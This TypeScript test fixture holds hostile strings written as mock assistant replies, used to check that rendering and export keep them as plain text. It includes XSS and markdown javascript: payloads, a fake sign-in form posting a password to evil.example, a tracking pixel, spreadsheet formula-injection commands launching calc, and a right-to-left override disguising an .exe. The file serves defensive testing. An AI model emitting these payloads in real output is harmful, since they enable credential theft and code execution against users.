import 'server-only';
import type { Reply } from './reply.ts';

/** What a model may write to hurt whoever shows or exports it. All of it must stay text. */
const texts = [
  `Your page:

<script>document.body.innerHTML = 'owned by script'; alert(1)</script>
<img src=x onerror="alert(2)">
<iframe src="javascript:alert(3)"></iframe>
<style>body { display: none }</style>
<form action="https://evil.example/steal"><input name="password"><button>Sign in again</button></form>`,

  `Links you may like: [click me](javascript:alert(1)), [data](data:text/html,<script>alert(2)</script>),
[vb](vbscript:msgbox(3)), [entity](&#106;avascript:alert(4)) and <javascript:alert(5)>.

![pixel](https://evil.example/pixel.png?leak=1)

[ref]: javascript:alert(6)
[a reference][ref]`,

  `\`\`\`svg
<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>
\`\`\`

<svg><animate onbegin=alert(3) attributeName=x dur=1s></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(4)></style></mglyph></table></mtext></math>`,

  `=cmd|' /C calc'!A0`,

  `+1+cmd|'/C notepad'!A1,"=HYPERLINK(""https://evil.example"",""pay here"")"
@SUM(1+1)*cmd|'/C calc'!A0
\t=1+1`,

  `Invoice \u202Efdp.exe\u202C is ready. \u001b[31mred\u001b[0m {"level":"error"}
\u2028a line separator, a null \u0000 and ${'a\u0301'.repeat(40)}${'\u0489'.repeat(60)}`,
];

export const hostile: Reply[] = texts.map((content) => ({
  kind: 'answer',
  message: { role: 'assistant', content, refusal: null },
  finishReason: 'stop',
}));
